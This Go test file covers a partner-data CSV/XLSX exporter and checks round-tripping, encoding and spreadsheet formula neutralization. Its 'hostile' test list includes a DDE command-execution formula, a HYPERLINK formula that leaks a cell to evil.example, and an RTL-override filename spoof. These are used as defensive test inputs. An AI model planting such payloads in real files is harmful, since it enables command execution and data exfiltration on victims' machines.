package partnerio

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/renkei/renkei"
	"github.com/renkei/renkei/i18n"
	"github.com/renkei/renkei/partnerio/internal/partnergen"
)

// hostile are texts a spreadsheet could run or that try to confuse a
// reader; each must come back exactly as it went.
var hostile = []string{
	"=cmd|' /C calc'!A0",
	"+1",
	"-1",
	"@SUM(A1:A9)",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"'=already quoted",
	"''+two quotes",
	"'",
	"'plain quote",
	"＝全角の等号",
	"－全角のマイナス",
	"a,b;c\"d\"",
	"_x0041_ looks like an escape",
	"<b>&amp;</b>",
}

// variedPartners are generated partners plus hostile text in every kind of
// text column.
func variedPartners(t testing.TB, n int, emoji bool) []renkei.Partner {
	t.Helper()
	var out []renkei.Partner
	for i := 0; i < n; i++ {
		out = append(out, partnergen.Partner(i))
	}
	for i, h := range hostile {
		p := partnergen.Partner(1000 + i)
		p.Company.Name = h
		p.Company.NameKana = h
		p.ExternalID = fmt.Sprintf("H%d%s", i, h)
		p.Profile.Region = h
		p.Contacts.Business.Name = h
		p.Contacts.Security.Phone = "+81-3-0000-000" + fmt.Sprint(i%10)
		p.Contacts.IncidentProcedure = h + "\n" + h
		p.Notes = h
		out = append(out, p)
	}
	p := partnergen.Partner(2000)
	p.Notes = "\tstarts with a tab"
	p.Contacts.IncidentProcedure = "-\n複数行\n\n空行も"
	out = append(out, p)
	if emoji {
		p := partnergen.Partner(2001)
		p.Company.Name = "🍣寿司株式会社 👨‍👩‍👧"
		p.Notes = "絵文字 😀 と 𠮷野家"
		out = append(out, p)
	}
	for i := range out {
		if err := out[i].Validate(); err != nil {
			t.Fatalf("partner %d: %v", i, err)
		}
		renkei.DefaultRiskPolicy().Evaluate(&out[i])
	}
	return out
}

// imported keeps what an import carries.
func imported(p renkei.Partner) renkei.Partner {
	return renkei.Partner{ExternalID: p.ExternalID, Type: p.Type, Department: p.Department, Company: p.Company,
		Profile: p.Profile, Contacts: p.Contacts, Notes: p.Notes}
}

func roundTrip(t *testing.T, ps []renkei.Partner, data []byte, ct string) {
	t.Helper()
	rows, errs, err := Read(bytes.NewReader(data), ct, 0)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if len(errs) != 0 {
		t.Fatalf("errors: %+v", errs)
	}
	if len(rows) != len(ps) {
		t.Fatalf("%d rows, want %d", len(rows), len(ps))
	}
	for i, r := range rows {
		if r.Row != i+2 && !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("row %d numbered %d", i, r.Row)
		}
		got, want := imported(r.Partner), imported(ps[i])
		if !reflect.DeepEqual(got, want) {
			t.Errorf("partner %d:\n got %+v\nwant %+v", i, got, want)
		}
	}
}

func TestRoundTrip(t *testing.T) {
	for _, lang := range []string{"ja", "en"} {
		t.Run("csv utf-8 "+lang, func(t *testing.T) {
			ps := variedPartners(t, 60, true)
			var b bytes.Buffer
			if err := WriteCSV(&b, SliceSource(ps), lang, EncodingUTF8); err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix(b.Bytes(), []byte("\xEF\xBB\xBF")) {
				t.Fatal("no BOM")
			}
			roundTrip(t, ps, b.Bytes(), "text/csv")
		})
		t.Run("csv shift_jis "+lang, func(t *testing.T) {
			ps := variedPartners(t, 60, false)
			var b bytes.Buffer
			if err := WriteCSV(&b, SliceSource(ps), lang, EncodingShiftJIS); err != nil {
				t.Fatal(err)
			}
			if isValidUTF8(b.Bytes()) {
				t.Fatal("the export should be Shift_JIS")
			}
			roundTrip(t, ps, b.Bytes(), "text/csv")
		})
		t.Run("xlsx "+lang, func(t *testing.T) {
			ps := variedPartners(t, 60, true)
			var b bytes.Buffer
			if err := WriteXLSX(&b, SliceSource(ps), lang); err != nil {
				t.Fatal(err)
			}
			roundTrip(t, ps, b.Bytes(), ContentTypeXLSX)
		})
	}
}

// Every cell of the export that a spreadsheet could take for a formula
// starts with a single quote, in the CSV text and in the XLSX cells as
// another program reads them.
func TestFormulaNeutralization(t *testing.T) {
	ps := variedPartners(t, 5, true)
	dangerous := regexp.MustCompile(`^[=+\-@\t\r＝＋－＠]`)
	check := func(where string, cells [][]string) {
		t.Helper()
		seen := 0
		for r, row := range cells {
			for c, v := range row {
				if dangerous.MatchString(v) {
					t.Errorf("%s row %d col %d: %q is not neutralized", where, r+1, c+1, v)
				}
				if strings.HasPrefix(v, "'") {
					seen++
				}
			}
		}
		if seen < len(hostile) {
			t.Errorf("%s: only %d quoted cells", where, seen)
		}
	}

	var b bytes.Buffer
	if err := WriteCSV(&b, SliceSource(ps), "ja", EncodingUTF8); err != nil {
		t.Fatal(err)
	}
	text := strings.TrimPrefix(b.String(), "\ufeff")
	if !strings.Contains(text, `'=cmd|' /C calc'!A0`) || !strings.Contains(text, "'@SUM(A1:A9)") || !strings.Contains(text, "'+81-3-") {
		t.Fatal("CSV text lacks the neutralized cells")
	}
	cells, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check("csv", cells)

	b.Reset()
	if err := WriteXLSX(&b, SliceSource(ps), "ja"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("取引先", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	check("xlsx", rows)
	// No cell of the export is a formula.
	for r := range rows {
		for c := range rows[r] {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, _ := f.GetCellFormula("取引先", ref); fm != "" {
				t.Errorf("%s has formula %q", ref, fm)
			}
		}
	}
	// Counts are numbers, the corporate number is text.
	if typ, _ := f.GetCellType("取引先", "I2"); rows[0][8] != "従業員数" || typ == excelize.CellTypeInlineString {
		t.Errorf("employees cell: header %q type %v", rows[0][8], typ)
	}
	if typ, _ := f.GetCellType("取引先", "D2"); rows[0][3] != "法人番号" || typ != excelize.CellTypeInlineString {
		t.Errorf("corporate number cell: header %q type %v", rows[0][3], typ)
	}
}

func TestNeutralizeIsInvertible(t *testing.T) {
	for _, s := range append(hostile, "", "'", "''", "'''=", "x", "'x", "=", "\t", "a'b") {
		if got := unneutralize(neutralize(s)); got != s {
			t.Errorf("%q → %q → %q", s, neutralize(s), got)
		}
	}
}

func TestWriteCSVShiftJISUnencodable(t *testing.T) {
	ps := variedPartners(t, 3, false)
	ps[2].Notes = "寿司🍣"
	var b bytes.Buffer
	err := WriteCSV(&b, SliceSource(ps), "ja", EncodingShiftJIS)
	fileErr(t, err, renkei.EINVALID, KeyUnencodable)
	args := err.(*renkei.Error).Args
	// Line 1 header, partners 0 and 1 one line each plus the line break
	// in their incident procedure (generated partners 0 and 1 have one).
	if args[1] != "備考" || args[2] != "🍣" {
		t.Fatalf("args %v", args)
	}
	lines := 1
	for _, p := range ps[:2] {
		lines += 1 + strings.Count(p.Contacts.IncidentProcedure, "\n") + strings.Count(p.Notes, "\n")
	}
	if args[0] != lines+1 {
		t.Fatalf("line %v, want %d", args[0], lines+1)
	}
}

func readDoc(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("../docs/partner-file-format.md")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestWriteBadArguments(t *testing.T) {
	var b bytes.Buffer
	fileErr(t, WriteCSV(&b, SliceSource(nil), "fr", EncodingUTF8), renkei.EINVALID, KeyExportLang)
	fileErr(t, WriteCSV(&b, SliceSource(nil), "ja", "latin1"), renkei.EINVALID, KeyExportEnc)
	fileErr(t, WriteXLSX(&b, SliceSource(nil), "de"), renkei.EINVALID, KeyExportLang)
	boom := fmt.Errorf("storage failed")
	next := func() (*renkei.Partner, bool, error) { return nil, false, boom }
	if err := WriteCSV(&b, next, "en", EncodingUTF8); err != boom {
		t.Fatalf("err %v", err)
	}
	if err := WriteXLSX(&b, next, "en"); err != boom {
		t.Fatalf("err %v", err)
	}
}

// An export with no partners is a template: the header alone, which Read
// turns down as a file without rows.
func TestTemplate(t *testing.T) {
	for _, lang := range []string{"ja", "en"} {
		var b bytes.Buffer
		if err := WriteCSV(&b, SliceSource(nil), lang, EncodingUTF8); err != nil {
			t.Fatal(err)
		}
		_, _, err := Read(&b, "text/csv", 0)
		fileErr(t, err, renkei.EINVALID, KeyHeaderOnly)
		b.Reset()
		if err := WriteXLSX(&b, SliceSource(nil), lang); err != nil {
			t.Fatal(err)
		}
		_, _, err = Read(&b, ContentTypeXLSX, 0)
		fileErr(t, err, renkei.EINVALID, KeyHeaderOnly)
	}
}

// Every message key exists in both languages and takes the arguments the
// code gives it.
func TestMessageKeys(t *testing.T) {
	for key, n := range keyArgs {
		texts, missing := i18n.WithPlaceholders(key, n)
		for _, lang := range missing {
			t.Errorf("%s missing in %s", key, lang)
		}
		for lang, msg := range texts {
			if strings.Contains(msg, "%!") || strings.Count(msg, "ARG") < min(n, 1) {
				t.Errorf("%s %s with %d args: %q", lang, key, n, msg)
			}
		}
	}
	for _, key := range fieldKeys {
		if _, ok := keyArgs[key]; !ok {
			t.Errorf("field key maps to %s, which keyArgs lacks", key)
		}
	}
	for _, lang := range i18n.Languages {
		for _, key := range i18n.Keys(lang) {
			if _, ok := keyArgs[key]; strings.HasPrefix(key, "partnerio.") && !ok {
				t.Errorf("%s: %s is in the catalog but not used", lang, key)
			}
		}
	}
}

// The columns documented in docs/partner-file-format.md are the columns.
func TestColumnsDocumented(t *testing.T) {
	doc := readDoc(t)
	for _, c := range columns {
		if !strings.Contains(doc, "`"+c.Key+"`") || !strings.Contains(doc, c.JA) {
			t.Errorf("column %s / %s is not in the format document", c.Key, c.JA)
		}
	}
}

// Text that reverses direction is refused by validation: a partner that
// somehow holds it exports, but its row does not import.
func TestRTLOverrideDoesNotRoundTrip(t *testing.T) {
	ps := variedPartners(t, 2, false)
	ps[1].Company.Name = "Evil\u202eexe.txt"
	ps[1].Notes = "note\u202e"
	var b bytes.Buffer
	if err := WriteXLSX(&b, SliceSource(ps), "en"); err != nil {
		t.Fatal(err)
	}
	rows, errs, err := Read(&b, ContentTypeXLSX, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := []errSig{{3, "name", KeyBadChars}, {3, "notes", KeyBadChars}}
	if got := sigs(errs); !reflect.DeepEqual(got, want) || len(rows) != len(ps)-1 {
		t.Fatalf("rows %d errs %v", len(rows), got)
	}
}
